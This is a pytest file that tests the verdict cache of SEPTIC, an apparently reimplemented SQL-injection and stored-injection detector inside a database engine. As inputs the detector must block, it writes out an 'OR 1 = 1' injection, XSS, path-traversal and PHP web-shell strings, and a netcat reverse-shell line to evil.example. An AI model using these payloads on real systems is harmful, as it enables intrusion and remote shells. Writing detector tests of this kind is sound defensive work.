"""SEPTIC's one memo: what a hit may skip, what invalidates it.

A pipeline-cache entry keeps the QM and ID derived from its statement
shape and the verdict of its last full run — and nothing SEPTIC derives
from a query lives anywhere else.  The sibling
``test_verdict_invariance.py`` shows the memo changes no outcome; here
each term of the validity predicate gets a case, the hit path gets a
count-based budget, a model that pins a literal is shown to leave no
verdict, and a flood of shapes is shown to leave nothing behind.
"""

import sys
import threading
import types
from collections import Counter, deque

import pytest

from repro import faults
from repro.core.detector import AttackDetector, Detection
from repro.core.logger import EventKind, SepticLogger
from repro.core.manager import LookupResult, QSQMManager
from repro.core.plugins import default_plugins
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.core.resilience import BreakerState
from repro.core.septic import Mode, Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database, QueryContext
from repro.sqldb.errors import QueryBlocked
from repro.net.client import NetClient
from repro.net.server import NetServer
from repro.sqldb.items import Item

SELECT = "/* septic:memo:1 */ SELECT a, b FROM t WHERE a = 1 AND c = 3"
UPDATE = "/* septic:memo:2 */ UPDATE t SET b = 'plain text' WHERE a = 2"
SCHEMA = ("CREATE TABLE t (a INT, b VARCHAR(40), c INT);"
          "INSERT INTO t VALUES (1, 'x', 3), (2, 'y', 4);")


def _stack(**septic_kwargs):
    """SEPTIC trained on SELECT and UPDATE, in PREVENTION, with both
    statements' verdicts already cached (two runs each)."""
    septic = Septic(mode=Mode.TRAINING, **septic_kwargs)
    database = Database(septic=septic)
    database.seed(SCHEMA)
    conn = Connection(database)
    for sql in (SELECT, UPDATE):
        assert conn.query(sql).ok
    septic.mode = Mode.PREVENTION
    for sql in (SELECT, UPDATE):
        assert conn.query(sql).ok
    return septic, database, conn


@pytest.fixture
def full_runs(monkeypatch):
    """Counter of ``QSQMManager.receive`` calls — one per full run."""
    counts = Counter()
    receive = QSQMManager.receive

    def counting(self, context, checkpoint=None):
        counts["receive"] += 1
        return receive(self, context, checkpoint)

    monkeypatch.setattr(QSQMManager, "receive", counting)
    return counts


def _runs(full_runs, conn, sql=SELECT):
    """Full runs one execution of *sql* takes (it must succeed)."""
    before = full_runs["receive"]
    outcome = conn.query(sql)
    assert outcome.ok, outcome.error
    return full_runs["receive"] - before


# -- the hit itself -----------------------------------------------------------

class TestL1Hit(object):
    def test_repeat_skips_the_run_and_keeps_the_books(self, full_runs):
        septic, _database, conn = _stack()
        before = septic.stats.as_dict()
        sequence = septic.logger._sequence
        assert _runs(full_runs, conn) == 0
        after = septic.stats.as_dict()
        assert after.pop("queries_processed") == \
            before.pop("queries_processed") + 1
        assert after == before
        # QS_BUILT, ID_GENERATED, QM_FOUND, COMPARISON_OK, QUERY_EXECUTED
        assert septic.logger._sequence == sequence + 5

    def test_sequence_advance_follows_the_sqli_switch(self, full_runs):
        septic, _database, conn = _stack()
        septic.config.detect_sqli = False
        assert _runs(full_runs, conn) == 1      # switch flipped: full run
        sequence = septic.logger._sequence
        assert _runs(full_runs, conn) == 0
        assert septic.logger._sequence == sequence + 4  # no COMPARISON_OK

    def test_prepared_executions_hit_too(self, full_runs):
        septic, _database, conn = _stack()
        handle = conn.prepare(
            "/* septic:memo:1 */ SELECT a, b FROM t WHERE a = ? AND c = ?")
        for _ in range(2):
            assert conn.execute_prepared(handle, 1, 3).ok
        before = full_runs["receive"]
        assert conn.execute_prepared(handle, 1, 3).ok
        assert full_runs["receive"] == before
        # new values, same entry: a SELECT's verdict did not depend on
        # the old ones
        assert conn.execute_prepared(handle, 7, 3).ok
        assert full_runs["receive"] == before
        # new types: another entry, a full run — which finds a REAL
        # where the model has an INT
        outcome = conn.execute_prepared(handle, 7.5, 3)
        assert isinstance(outcome.error, QueryBlocked)
        assert full_runs["receive"] == before + 1

    def test_no_cache_no_l1(self, full_runs):
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic, cache_size=0)
        database.seed(SCHEMA)
        conn = Connection(database)
        conn.query(SELECT)
        septic.mode = Mode.PREVENTION
        for _ in range(3):
            assert _runs(full_runs, conn) == 1

    def test_attacks_are_never_memoised(self, full_runs):
        septic, _database, conn = _stack()
        attack = SELECT + " OR 1 = 1"
        for expected_drops in (1, 2, 3):
            before = full_runs["receive"]
            outcome = conn.query(attack)
            assert isinstance(outcome.error, QueryBlocked)
            assert full_runs["receive"] == before + 1
            assert septic.stats.queries_dropped == expected_drops

    def test_unknown_query_is_learned_before_it_is_memoised(self,
                                                            full_runs):
        septic, _database, conn = _stack()
        learned = septic.stats.models_learned
        fresh = "SELECT c FROM t WHERE b = 'q'"
        assert _runs(full_runs, conn, fresh) == 1   # unknown: learned
        assert septic.stats.unknown_queries == 1
        assert _runs(full_runs, conn, fresh) == 1   # known: verdict kept
        assert _runs(full_runs, conn, fresh) == 0
        assert septic.stats.unknown_queries == 1
        assert septic.stats.models_learned == learned + 1

    def test_candidate_matched_query_is_not_memoised_until_known(
            self, full_runs):
        # same call site, different literal types: no exact model, the
        # call site's candidates decide — that is never a "known model"
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        database.seed(SCHEMA)
        conn = Connection(database)
        site = "/* septic:memo:9 */ SELECT a FROM t WHERE c = "
        conn.query(site + "3")
        septic.mode = Mode.PREVENTION
        septic.config.incremental_learning = False
        attack = site + "3 OR 1 = 1"
        for _ in range(3):
            before = full_runs["receive"]
            assert isinstance(conn.query(attack).error, QueryBlocked)
            assert full_runs["receive"] == before + 1


# -- one case per term of the predicate ---------------------------------------

class TestInvalidation(object):
    def test_unrelated_learning_invalidates_nothing(self, full_runs):
        septic, _database, conn = _stack()
        swaps = septic.store.snapshot_swaps
        assert _runs(full_runs, conn, "SELECT c FROM t WHERE a = 9") == 1
        assert septic.store.snapshot_swaps == swaps + 1   # a new view…
        assert _runs(full_runs, conn) == 0                # …same model

    def test_store_clear(self, full_runs):
        septic, _database, conn = _stack()
        septic.store.clear()
        assert _runs(full_runs, conn) == 1
        assert septic.stats.unknown_queries == 1    # re-learned, noted
        assert septic.logger.new_models[-1].detail == "incremental"
        assert _runs(full_runs, conn) == 1
        assert _runs(full_runs, conn) == 0

    def test_model_relearned_as_a_new_object(self, full_runs):
        septic, _database, conn = _stack()
        septic.store.restore(septic.store.snapshot())
        assert _runs(full_runs, conn) == 1
        assert _runs(full_runs, conn) == 0

    def test_store_load(self, full_runs, tmp_path):
        septic, _database, conn = _stack()
        path = str(tmp_path / "models.json")
        septic.store.save(path)
        assert septic.store.load(path) == len(septic.store) >= 2
        assert _runs(full_runs, conn) == 1
        assert _runs(full_runs, conn) == 0

    def test_journal_recovery(self, full_runs):
        septic, _database, conn = _stack()
        for model in septic.store._models.values():
            model.nodes[0].kind = "X" + model.nodes[0].kind[1:]
        damaged = septic.store.verify_integrity()
        assert len(damaged) == len(septic.store) >= 2
        assert septic.stats.store_recoveries == len(damaged)
        assert _runs(full_runs, conn) == 1
        assert _runs(full_runs, conn) == 0

    def test_a_poisoned_model_under_the_same_id_blocks(self, full_runs):
        """The strongest reading of "same model object": swap in a model
        the statement does not match and the cached PASS must die."""
        septic, database, conn = _stack()
        entry = database.pipeline_cache.get("utf8", SELECT,
                                            database.schema_version)
        query_id = entry.septic_memo.query_id
        wrong = QueryModel(list(entry.septic_memo.model_of_query)[:-1])
        septic.store.clear()
        septic.store.put(query_id, wrong)
        outcome = conn.query(SELECT)
        assert isinstance(outcome.error, QueryBlocked)

    def test_mode_flip(self, full_runs):
        septic, _database, conn = _stack()
        septic.mode = Mode.DETECTION
        assert _runs(full_runs, conn) == 1
        assert _runs(full_runs, conn) == 0
        septic.mode = Mode.PREVENTION
        assert _runs(full_runs, conn) == 1

    def test_training_always_runs_and_learns(self, full_runs):
        septic, _database, conn = _stack()
        septic.store.clear()
        septic.mode = Mode.TRAINING
        learned = septic.stats.models_learned
        assert _runs(full_runs, conn) == 1
        assert septic.stats.models_learned == learned + 1
        assert septic.logger.new_models[-1].detail == "training"
        for _ in range(3):                       # and never memoises
            assert _runs(full_runs, conn) == 1

    @pytest.mark.parametrize("flag", ["detect_sqli", "detect_stored",
                                      "incremental_learning"])
    def test_each_config_flag(self, full_runs, flag):
        septic, _database, conn = _stack()
        setattr(septic.config, flag, not getattr(septic.config, flag))
        assert _runs(full_runs, conn) == 1
        assert _runs(full_runs, conn) == 0
        setattr(septic.config, flag, not getattr(septic.config, flag))
        assert _runs(full_runs, conn) == 1

    def test_plugin_list_edited_in_place(self, full_runs):
        septic, _database, conn = _stack()

        class FlagsEverything(object):
            name = "flags_everything"
            attack_type = "STORED_TEST"

            def inspect(self, value):
                return True

        septic.detector.plugins.append(FlagsEverything())
        # the cached PASS of the UPDATE must not outlive the edit
        assert isinstance(conn.query(UPDATE).error, QueryBlocked)
        assert septic.stats.stored_detected == 1
        # a verdict is true of what it names, not of a moment: with the
        # list as it was, the earlier PASS stands again
        septic.detector.plugins.pop()
        assert _runs(full_runs, conn, UPDATE) == 0

    def test_detector_replaced(self, full_runs):
        septic, _database, conn = _stack()
        septic.detector = AttackDetector(plugins=default_plugins())
        assert _runs(full_runs, conn) == 1
        assert _runs(full_runs, conn) == 0

    def test_one_counted_fault_is_cleared_by_the_next_query(self,
                                                            full_runs):
        septic, _database, conn = _stack()
        septic.breaker.record_fault()
        assert septic.breaker.state == BreakerState.CLOSED
        assert _runs(full_runs, conn) == 1   # record_success must run
        assert septic.breaker.state_dict()["consecutive_faults"] == 0
        assert _runs(full_runs, conn) == 0

    def test_breaker_open_and_half_open(self, full_runs):
        septic, _database, conn = _stack()
        breaker = septic.breaker
        for _ in range(breaker.threshold):
            breaker.record_fault()
        assert breaker.state == BreakerState.OPEN
        # the cool-down is counted in queries: every one must be seen
        for _ in range(breaker.cooldown - 1):
            assert _runs(full_runs, conn) == 1
            assert breaker.state == BreakerState.OPEN
        assert _runs(full_runs, conn) == 1       # half-opens, then closes
        assert breaker.state == BreakerState.CLOSED
        assert septic.stats.breaker_resets == 1
        assert septic.logger.by_kind(EventKind.BREAKER_RESET)
        assert _runs(full_runs, conn) == 0

    def test_paranoid_store(self, full_runs):
        septic, _database, conn = _stack()
        septic.store.paranoid = True
        for _ in range(2):
            assert _runs(full_runs, conn) == 1
        # which is what lets it notice damage done between two queries
        model = septic.store._models[
            [full for full in septic.store.ids() if "memo:1" in full][0]]
        model.nodes[0].kind = "X" + model.nodes[0].kind[1:]
        assert _runs(full_runs, conn) == 1
        assert septic.stats.store_recoveries == 1
        septic.store.paranoid = False
        assert _runs(full_runs, conn) == 0   # the run above left a verdict

    def test_verbose_register(self, full_runs):
        septic, _database, conn = _stack()
        septic.logger.verbose = True
        held = len(septic.logger)
        assert _runs(full_runs, conn) == 1
        assert [event.kind for event in septic.logger.events[held:]] == [
            EventKind.QS_BUILT, EventKind.ID_GENERATED, EventKind.QM_FOUND,
            EventKind.COMPARISON_OK, EventKind.QUERY_EXECUTED]
        sequences = [event.sequence for event in septic.logger.events]
        assert sequences == sorted(set(sequences))

    def test_armed_fault_plan_sees_every_site_on_every_query(self,
                                                             full_runs):
        _septic, _database, conn = _stack()
        with faults.armed(faults.FaultPlan(seed=1)) as plan:
            for _ in range(3):
                assert _runs(full_runs, conn, UPDATE) == 1
            assert plan.hits_by_site["store.get"] == 3
            assert plan.hits_by_site["detector.run"] == 6   # sqli + stored
            assert plan.hits_by_site["logger.record"] == 15
        assert _runs(full_runs, conn, UPDATE) == 0

    def test_a_contained_fault_is_never_memoised(self, full_runs):
        septic, _database, conn = _stack()
        septic.store.clear()                    # drop the cached verdicts'
        conn.query(SELECT)                      # models; re-learn
        plan = faults.FaultPlan(seed=1)
        plan.inject("detector.run", faults.FaultKind.RAISE, times=1)
        with faults.armed(plan):
            assert isinstance(conn.query(SELECT).error, QueryBlocked)
        assert septic.stats.fail_closed_drops == 1
        assert _runs(full_runs, conn) == 1      # clears the fault count
        assert _runs(full_runs, conn) == 0


# -- concurrency --------------------------------------------------------------

def test_no_pass_is_served_from_a_stale_verdict():
    """One thread hammers one cache entry; another keeps swapping the
    model under the statement's ID between the right one and one the
    statement does not match, flipping the mode as it goes.  Whenever
    the hammer's query ran wholly inside one phase, its outcome must be
    that phase's: blocked while PREVENTION faces the wrong model, let
    through otherwise."""
    septic, database, _conn = _stack()
    # only the flipper may put models: a hammer that met the store
    # between its clear() and its put() would otherwise learn the
    # statement itself, and the "wrong" model would never go in
    septic.config.incremental_learning = False
    entry = database.pipeline_cache.get("utf8", SELECT,
                                        database.schema_version)
    query_id = entry.septic_memo.query_id
    right = entry.septic_memo.model_of_query
    wrong = QueryModel(list(right)[:-1])
    #: (phase number, must block) — published only once the phase's
    #: store and mode are both in place, withdrawn before they change
    phase = [(0, False)]
    stop = threading.Event()
    wrongly_passed, wrongly_blocked = [], []
    settled = Counter()     # phase number -> queries wholly inside it
    must_block = {0: False}

    def hammer():
        conn = Connection(database)
        while not stop.is_set():
            before = phase[0]
            outcome = conn.query(SELECT)
            if before is None or phase[0] is not before:
                continue                        # straddled a change
            blocked = isinstance(outcome.error, QueryBlocked)
            settled[before[0]] += 1
            if before[1] and not blocked:
                wrongly_passed.append(before[0])
            elif blocked and not before[1]:
                wrongly_blocked.append(before[0])

    def flipper():
        for number in range(1, 241):
            poisoned = number % 2 == 1
            mode = Mode.DETECTION if number % 4 >= 2 else Mode.PREVENTION
            phase[0] = None
            septic.store.clear()
            septic.store.put(query_id, wrong if poisoned else right)
            septic._mode = mode     # the setter only adds a log record
            must_block[number] = poisoned and mode == Mode.PREVENTION
            phase[0] = (number, must_block[number])
            for _ in range(400):                # let the hammers in
                if stop.is_set() or settled[number] >= 3:
                    break
                stop.wait(0.0005)

    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)
    threads = [threading.Thread(target=hammer) for _ in range(3)]
    threads.append(threading.Thread(target=flipper))
    try:
        for thread in threads:
            thread.start()
        threads[-1].join(timeout=60)
        stop.set()
        for thread in threads:
            thread.join(timeout=10)
    finally:
        stop.set()
        sys.setswitchinterval(interval)
    assert not any(thread.is_alive() for thread in threads)
    assert wrongly_passed == []
    assert wrongly_blocked == []
    # both kinds of phase were really observed, most of them
    observed = [must_block[number] for number in settled]
    assert observed.count(True) > 30 and observed.count(False) > 90


# -- one memo: nothing else outlives a query -----------------------------------

_ATOMS = (str, bytes, int, float, bool, type(None), type,
          types.ModuleType, types.FunctionType, types.BuiltinFunctionType)


def _entries_held(root, exempt):
    """How many entries the containers reachable from *root* hold in
    all (instance attributes count as entries of their object), not
    descending into *exempt*."""
    seen = {id(obj) for obj in exempt}
    total = 0
    pending = [root]
    while pending:
        obj = pending.pop()
        if id(obj) in seen or isinstance(obj, _ATOMS):
            continue
        seen.add(id(obj))
        if isinstance(obj, dict):
            total += len(obj)
            pending.extend(obj.keys())
            pending.extend(obj.values())
        elif isinstance(obj, (list, tuple, set, frozenset, deque)):
            total += len(obj)
            pending.extend(obj)
        else:
            if isinstance(obj, types.MethodType):
                pending.append(obj.__self__)
            pending.append(getattr(obj, "__dict__", None))
            for cls in type(obj).__mro__:
                for slot in cls.__dict__.get("__slots__", ()):
                    pending.append(getattr(obj, slot, None))
    return total


class TestShapeMemo(object):
    def test_caps_hold_under_ten_times_cap_distinct_shapes(self):
        """160 new shapes, each from a new call site and run twice,
        through an 8-entry cache: afterwards nothing reachable from the
        hook is larger than before, bar the model store and the event
        register (at 55a1d75 three shape-keyed maps sat at their caps)."""
        septic = Septic(mode=Mode.PREVENTION)
        database = Database(septic=septic, cache_size=8)
        database.seed("CREATE TABLE wide (%s)" % ", ".join(
            "c%d INT" % index for index in range(160)))
        conn = Connection(database)
        assert conn.query("SELECT c0 FROM wide").ok     # every path taken
        assert conn.query("SELECT c0 FROM wide ").ok    # once, lazily built
        seeded = len(septic.store)
        exempt = (septic.store, septic.logger)
        held = (_entries_held(septic, exempt),
                _entries_held(septic.manager, exempt))
        for index in range(160):
            sql = "/* septic:flood:%d */ SELECT c%d FROM wide" % (
                index, index)
            assert conn.query(sql).ok
            assert conn.query(sql + " ").ok
        assert len(septic.store) == seeded + 160
        assert (_entries_held(septic, exempt),
                _entries_held(septic.manager, exempt)) == held
        # the census does see a map that grows
        septic.manager.seen = {index: None for index in range(3)}
        assert _entries_held(septic, exempt) == held[0] + 4
        # a shape the cache evicted is simply derived again, identically
        first = "/* septic:flood:0 */ SELECT c0 FROM wide"
        assert conn.query(first + "  ").ok
        assert septic.stats.unknown_queries == 161
        assert len(septic.store) == seeded + 160

    def test_non_string_element_values_keep_their_own_ids(self):
        # 1, 1.0 and True are one dict key but three canonical texts
        manager = QSQMManager()
        ids = set()
        for value in (1, 1.0, True):
            stack = [Item("FROM_TABLE", "t"), Item("FUNC_ITEM", value)]
            lookup = manager.receive(
                QueryContext("q", None, stack, [], None))
            ids.add(lookup.query_id.value)
        assert len(ids) == 3

    def test_pinned_literal_models_are_compared_every_time(self,
                                                           full_runs):
        """A hand-written model may pin a data value; then passing is
        not a function of the shape, and a run against it leaves no
        verdict: the same-shape text with another value is still
        blocked, by ``query``, ``execute_prepared`` and over the wire
        (at 55a1d75 a verdict was left on the text)."""
        septic, database, conn = _stack()
        entry = database.pipeline_cache.get("utf8", SELECT,
                                            database.schema_version)
        memo = entry.septic_memo
        pinned = QueryModel(
            Item(node.kind, node.value)
            for node in QueryStructure.from_stack(
                entry.stack, (1, 3)))                    # a = 1, c = 3
        septic.store.clear()
        septic.store.put(memo.query_id, pinned)
        other = SELECT.replace("a = 1", "a = 2")         # same shape
        handle = conn.prepare(SELECT.replace("a = 1", "a = ?")
                              .replace("c = 3", "c = ?"))
        server = NetServer(database)
        server.start()
        try:
            with NetClient(server.host, server.port) as wire:
                runs = [
                    (lambda: conn.query(SELECT),
                     lambda: conn.query(other)),
                    (lambda: conn.execute_prepared(handle, 1, 3),
                     lambda: conn.execute_prepared(handle, 2, 3)),
                    (lambda: wire.query(SELECT),
                     lambda: wire.query(other)),
                ]
                for matching, differing in runs:
                    for _ in range(2):
                        before = full_runs["receive"]
                        assert matching().ok
                        assert differing().error.errno == 3090
                        assert full_runs["receive"] == before + 2
        finally:
            server.stop()
        assert memo.verdict is None or not septic._verdict_holds(
            memo.verdict)
        assert septic.stats.queries_dropped == 6
        # with the learned model back, the shape keeps a verdict again
        septic.store.clear()
        septic.store.put(memo.query_id, memo.model_of_query)
        assert _runs(full_runs, conn) == 1
        assert _runs(full_runs, conn, other) == 0


# -- the hit paths' budget, by count ------------------------------------------

class _CountingLock(object):
    acquisitions = 0

    def __init__(self, inner):
        self._inner = inner

    def __enter__(self):
        _CountingLock.acquisitions += 1
        return self._inner.__enter__()

    def __exit__(self, *exc_info):
        return self._inner.__exit__(*exc_info)

    def acquire(self, *args, **kwargs):
        _CountingLock.acquisitions += 1
        return self._inner.acquire(*args, **kwargs)

    def release(self):
        return self._inner.release()


@pytest.fixture
def counted_locks(monkeypatch):
    """Every lock handed out by ``make_lock`` counts its acquisitions
    (the factory is patched wherever it was imported by name)."""
    from repro.core import resilience

    original = resilience.make_lock
    for module in list(sys.modules.values()):
        name = getattr(module, "__name__", "")
        if name.startswith("repro.") and getattr(
                module, "make_lock", None) is original:
            monkeypatch.setattr(
                module, "make_lock", lambda: _CountingLock(original()))
    _CountingLock.acquisitions = 0
    return _CountingLock


def _count_calls(monkeypatch, counts, owner, name):
    original = owner.__dict__[name]

    def counting(*args, **kwargs):
        counts["%s.%s" % (owner.__name__, name)] += 1
        return original(*args, **kwargs)

    monkeypatch.setattr(owner, name, counting)


def test_l1_hit_budget(monkeypatch, counted_locks):
    septic, database, _conn = _stack()
    # the two locks the factory does not make count too
    septic.breaker._lock = _CountingLock(septic.breaker._lock)
    septic.store._lock = _CountingLock(septic.store._lock)
    counts = Counter()
    for owner in (QueryStructure, QueryModel, LookupResult, Detection):
        _count_calls(monkeypatch, counts, owner, "__init__")
    for name in ("detect_sqli", "detect_stored"):
        _count_calls(monkeypatch, counts, AttackDetector, name)
    for sql in (SELECT, UPDATE):
        text = database.pipeline_cache.probe("utf8", sql,
                                             database.schema_version)
        entry = text.entry
        # both verdicts serve their whole shape; the UPDATE's names the
        # slot the plugins read ('plain text'), whose string faces them
        # again on every hit — and nothing else of a run is repeated
        verdict = entry.septic_memo.verdict
        assert verdict is not None
        assert verdict.slots == (() if sql is SELECT else (0, 1))
        context = QueryContext(text.decoded, entry.statements[0],
                               entry.stack, entry.comments, database,
                               memo=entry.septic_memo, values=text.values)
        processed = septic.stats.queries_processed
        counted_locks.acquisitions = 0
        septic.process_query(context)
        # stats + sequence, under the one lock they share
        assert counted_locks.acquisitions <= 1
        assert septic.stats.queries_processed == processed + 1
    assert counts == Counter()


def _python_calls(septic, context):
    """Names of the Python-level functions *septic*'s hook calls for
    *context*, at any depth (``sys.setprofile`` sees every Python frame
    entered; a C call is not one)."""
    calls = []

    def profile(frame, event, _arg):
        if event == "call":
            calls.append(frame.f_code.co_name)

    sys.setprofile(profile)
    try:
        septic.process_query(context)
    finally:
        sys.setprofile(None)
    assert calls[0] == "process_query"
    return calls[1:]


def test_a_hit_is_one_frame_and_its_check():
    """The hit is the verdict check plus, where the verdict names slots,
    the plugins' look at this execution's strings: two calls at most,
    nothing of the store, the breaker or the register (at 5f6d18d the
    hit also called ``QMStore.serves``, ``CircuitBreaker.quiescent`` and
    ``SepticLogger.skip``)."""
    septic, database, _conn = _stack()
    for sql, expected in ((SELECT, ["_verdict_holds"]),
                          (UPDATE, ["_verdict_holds", "_inspect_inputs"])):
        text = database.pipeline_cache.probe("utf8", sql,
                                             database.schema_version)
        entry = text.entry
        context = QueryContext(text.decoded, entry.statements[0],
                               entry.stack, entry.comments, database,
                               memo=entry.septic_memo, values=text.values)
        sequence = septic.logger._sequence
        assert _python_calls(septic, context) == expected
        assert septic.logger._sequence == sequence + 5


#: one payload per default plugin, in plugin order; each is flagged by
#: its own plugin alone, so every plugin before it reads it and passes
_STORED_PAYLOADS = ["<script>alert(1)</script>",
                    "http://evil.example/shell.txt?",
                    "../../../../etc/passwd",
                    "x | nc evil.example 4444 -e /bin/sh",
                    "<?php system($_GET[1]); ?>"]
_WARM_WRITES = {
    "INSERT": "/* septic:memo:3 */ INSERT INTO t VALUES (%d, '%s', 5)",
    "UPDATE": "/* septic:memo:2 */ UPDATE t SET b = '%s' WHERE a = %d",
}


def _warm_write(kind, value, key):
    template = _WARM_WRITES[kind]
    return template % ((key, value) if kind == "INSERT" else (value, key))


@pytest.mark.parametrize("payload", _STORED_PAYLOADS)
@pytest.mark.parametrize("kind", sorted(_WARM_WRITES))
def test_a_stored_payload_on_a_warm_shape_is_decided_by_the_check(
        monkeypatch, full_runs, kind, payload):
    """The verdict holds and the check's plugins flag the value: that
    detection is the one the full run would report, so no full run —
    no ``receive``, no comparison — and each plugin reads each value
    once (at 5f6d18d the full run ran the plugins a second time)."""
    septic, _database, conn = _stack()
    septic.mode = Mode.TRAINING
    assert conn.query(_warm_write("INSERT", "trained", 100)).ok
    septic.mode = Mode.PREVENTION
    for key in (101, 102):               # the second one hits
        assert conn.query(_warm_write(kind, "plain note", key)).ok
    assert _runs(full_runs, conn, _warm_write(kind, "plain again",
                                              103)) == 0
    counts = Counter()
    _count_calls(monkeypatch, counts, AttackDetector, "detect_sqli")
    inspected = Counter()
    for plugin in septic.detector.plugins:
        def counting(value, plugin=plugin, inspect=plugin.inspect):
            inspected[plugin.name, value] += 1
            return inspect(value)
        monkeypatch.setattr(plugin, "inspect", counting)
    before = full_runs["receive"]
    outcome = conn.query(_warm_write(kind, payload, 104))
    assert isinstance(outcome.error, QueryBlocked)
    assert full_runs["receive"] == before
    assert counts == Counter()
    names = [plugin.name for plugin in septic.detector.plugins]
    flagger = _STORED_PAYLOADS.index(payload)
    assert inspected == Counter(
        (name, payload) for name in names[:flagger + 1])
    assert septic.stats.stored_detected == 1
    assert septic.logger.attacks[-1].detail.endswith(
        "flagged by %s" % names[flagger])


def test_stored_injection_plugins_still_see_every_new_value():
    """The memo remembers shapes, never values: an UPDATE of a known
    shape with a payload in its data is still caught."""
    septic, _database, conn = _stack()
    outcome = conn.query(
        UPDATE.replace("plain text", "<script>alert(1)</script>"))
    assert isinstance(outcome.error, QueryBlocked)
    assert septic.stats.stored_detected == 1


def test_quiet_logger_skip_matches_discarded_logs():
    quiet, skipped = SepticLogger(), SepticLogger()
    for kind in (EventKind.QS_BUILT, EventKind.ID_GENERATED,
                 EventKind.QUERY_EXECUTED):
        assert quiet.log(kind) is None
    skipped.skip(3)
    assert quiet.log(EventKind.ATTACK_DETECTED).sequence == \
        skipped.log(EventKind.ATTACK_DETECTED).sequence == 4
